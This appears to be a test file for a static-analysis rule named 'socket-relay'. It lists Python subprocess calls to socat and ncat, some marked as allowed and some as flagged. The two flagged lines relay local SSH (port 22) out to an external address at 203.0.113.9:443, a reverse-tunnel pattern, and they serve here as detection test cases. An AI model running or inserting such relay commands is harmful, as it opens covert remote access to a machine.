import subprocess

# ok: socket-relay
subprocess.Popen(["socat", "TCP-LISTEN:5433,fork", "TCP:db.internal:5432"])
# ok: socket-relay
subprocess.run(["socat", "-V"])
# ruleid: socket-relay
subprocess.Popen(["socat", "TCP:203.0.113.9:443", "TCP:localhost:22"])
# ruleid: socket-relay
subprocess.Popen("ncat 203.0.113.9 443 --sh-exec 'ncat localhost 22'", shell=True)
